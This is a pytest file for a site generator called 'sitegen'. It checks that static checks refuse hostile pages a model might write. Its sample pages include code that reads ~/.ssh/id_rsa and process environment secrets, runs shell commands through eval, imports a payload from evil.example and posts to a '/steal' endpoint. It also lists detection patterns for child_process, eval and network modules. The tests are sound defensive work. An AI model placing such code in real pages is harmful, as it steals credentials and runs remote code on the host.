"""Issue 10, item 6: static-check findings block a model provider's site too.

A hostile (or careless) model writes a page that reaches the host at build time or loads code from
elsewhere. The real `sitegen new --provider gemini` runs against the fake Gemini; the fixer answers
nothing useful. With `--sandbox none` (no build at all) the job used to end DONE with the findings
dropped; now CHECKING fails, nothing is built, and the fixer was asked once. A fixer that really
removes the problem lets the job pass.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from sitegen.checks.static import check_project, danger_findings
from sitegen.errors import SitegenError
from sitegen.stages.fixloop import refuse_findings
from tests.conftest import run_cli
from tests.fakes.fake_gemini import FakeGemini
from tests.fakes.scenario import Scenario, page_json, page_tsx

GEMINI_KEY = "test-gemini-key-789"

HOSTILE = {
    "getBuiltinModule": """export default function Page() {
  const cp = (process as any).getBuiltinModule("child_process");
  const out = cp.execSync("cat ~/.ssh/id_rsa").toString();
  return <pre>{out}</pre>;
}
""",
    "environ": """import { readFileSync } from "fs";

export default function Page() {
  const env = readFileSync(`/proc/${process.ppid}/environ`, "utf8");
  return <pre>{env}</pre>;
}
""",
    "eval": """export default function Page() {
  const payload = "require('child_' + 'process').execSync('id')";
  const result = eval(payload);
  return <p>{String(result)}</p>;
}
""",
    "new-function": """const run = new Function("return globalThis.process.mainModule.require('net')");

export default function Page() {
  run();
  return <p>hello</p>;
}
""",
    "dynamic-import": """export default async function Page() {
  const mod = await import("https://evil.example/payload.mjs");
  return <p>{mod.default}</p>;
}
""",
    "http": """import http from "node:http";

export default function Page() {
  http.get("http://127.0.0.1:9/steal");
  return <p>hi</p>;
}
""",
}


def gemini_env(fake: FakeGemini) -> dict[str, str]:
    return {"GEMINI_API_KEY": GEMINI_KEY, "GOOGLE_GEMINI_BASE_URL": fake.url, "SITEGEN_MODELS": "gemini-3.8-flash",
            "SITEGEN_RETRY_MAX_WAIT": "1", "SITEGEN_RETRY_BASE_DELAY": "0.01"}


def with_home_page(scenario: Scenario, content: str) -> None:
    def answer(text: str) -> dict[str, Any]:
        data = page_json(text)
        if data["files"][0]["path"] == "app/page.tsx":
            data["files"][0]["content"] = content
        return data

    scenario.overrides["PageOutput"] = answer


@pytest.fixture
def fake() -> Iterator[FakeGemini]:
    with FakeGemini(Scenario(pages=1), api_key=GEMINI_KEY) as server:
        yield server


def new(tmp_path: Path, fake: FakeGemini, sandbox: str = "none") -> tuple[dict[str, Any], Path, int]:
    out = tmp_path / "site"
    r = run_cli("new", "a coffee roaster in Lisbon", "--out", str(out), "--provider", "gemini", "--sandbox", sandbox,
                "--no-verify", "--json", cwd=tmp_path, env=gemini_env(fake), timeout=300)
    assert r.stdout.strip(), r.stderr[-3000:]
    return json.loads(r.stdout), out, r.returncode


def fix_requests(fake: FakeGemini) -> list[Any]:
    return [r for r in fake.requests if r["kind"] == "FixOutput"]


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_page_fails_checking_with_no_build(tmp_path: Path, fake: FakeGemini, case: str) -> None:
    with_home_page(fake.scenario, HOSTILE[case])
    data, out, code = new(tmp_path, fake)
    assert code == 1, data
    assert data["status"] == "failed" and data["stage"] == "CHECKING"
    assert data["error_kind"] == "model_output"
    assert "check finding(s) remain" in data["error"] and "app/page.tsx" in data["error"]
    assert not (out / "out").exists() and not (out / ".next").exists()
    assert len(fix_requests(fake)) == 1  # the fix step asked the fixer once; it changed nothing
    assert "fix_done" not in json.dumps(data)


def test_a_fixer_that_removes_the_danger_lets_the_job_pass(tmp_path: Path, fake: FakeGemini) -> None:
    with_home_page(fake.scenario, HOSTILE["getBuiltinModule"])
    fake.scenario.fixes = {"app/page.tsx": page_tsx("Home")}
    data, out, code = new(tmp_path, fake)
    assert code == 0 and data["status"] == "done", data
    assert "getBuiltinModule" not in (out / "app" / "page.tsx").read_text()
    assert len(fix_requests(fake)) == 1
    assert check_project(out) == []


def test_remote_script_never_reaches_a_finished_site(tmp_path: Path, fake: FakeGemini) -> None:
    """A remote script is either removed by a rule (the file really changes) or fails CHECKING."""
    page = page_tsx("Home").replace(
        "</section>", '  <script src="https://cdn.tracker.example/t"></script>\n    </section>')
    with_home_page(fake.scenario, page)
    data, out, code = new(tmp_path, fake)
    text = "\n".join(p.read_text() for p in (out / "app").rglob("*.tsx"))
    if code == 0:
        assert "cdn.tracker.example" not in text
        assert any(f["rule"] == "remote-script" for f in data.get("fixes", []))
    else:
        assert data["stage"] == "CHECKING"


def test_remote_script_in_a_form_no_rule_rewrites_fails_checking(tmp_path: Path, fake: FakeGemini) -> None:
    page = page_tsx("Home").replace(
        "</section>", '  <iframe src="https://evil.example/widget" title="w" />\n    </section>')
    with_home_page(fake.scenario, page)
    data, out, code = new(tmp_path, fake)
    assert code == 1 and data["stage"] == "CHECKING", data
    assert "remote" in data["error"]


# ------------------------------------------------------------------------------ the checks themselves
@pytest.mark.parametrize("code", [
    'const { execSync } = require("child_process");',
    'import { spawn } from "node:child_process";',
    'const cp = process.getBuiltinModule("node:child_process");',
    "const m = process . getBuiltinModule(name);",
    'const b = process.binding("spawn_sync");',
    'const x = eval("1 + 1");',
    'const x = window.eval?.("1") ?? eval ("2");',
    'const f = new Function("a", "return a")(1);',
    'const f = Function("return this")();',
    'import fs from "fs";',
    'import { readFile } from "fs/promises";',
    'import * as net from "net";',
    'import https from "https";',
    'const m = await import(name);',
    "const m = await import(`./${x}`);",
    'const m = await import("lodash");',
    "const r = require(x);",
])
def test_dangerous_code_is_found(code: str) -> None:
    assert danger_findings("app/page.tsx", f"export default function P() {{ return null }}\n{code}\n")


@pytest.mark.parametrize("code", [
    'const Map = dynamic(() => import("@/components/Map"), { ssr: false });',
    'const Chart = dynamic(() => import("../components/Chart"));',
    "const v = form.evaluate(1); const retrieval = 2;",
    "<p>We evaluate every bean and function well</p>",
    'import { useState } from "react";',
    "const fnName = myFunction(1);",
])
def test_ordinary_code_is_not_flagged(code: str) -> None:
    assert danger_findings("app/page.tsx", code) == []


def test_what_the_fixer_writes_is_checked_before_a_build(tmp_path: Path) -> None:
    (tmp_path / "app").mkdir()
    (tmp_path / "package.json").write_text(json.dumps({"dependencies": {"next": "16", "react": "19"}}))
    (tmp_path / "app" / "page.tsx").write_text(HOSTILE["eval"])
    with pytest.raises(SitegenError) as err:
        refuse_findings(tmp_path, ["app/page.tsx"])
    assert "fixer wrote code the static checks refuse" in err.value.message
    (tmp_path / "app" / "page.tsx").write_text(re.sub(r"eval\(payload\)", "1", HOSTILE["eval"]).replace(
        "require('child_' + 'process').execSync('id')", "hello"))
    refuse_findings(tmp_path, ["app/page.tsx"])
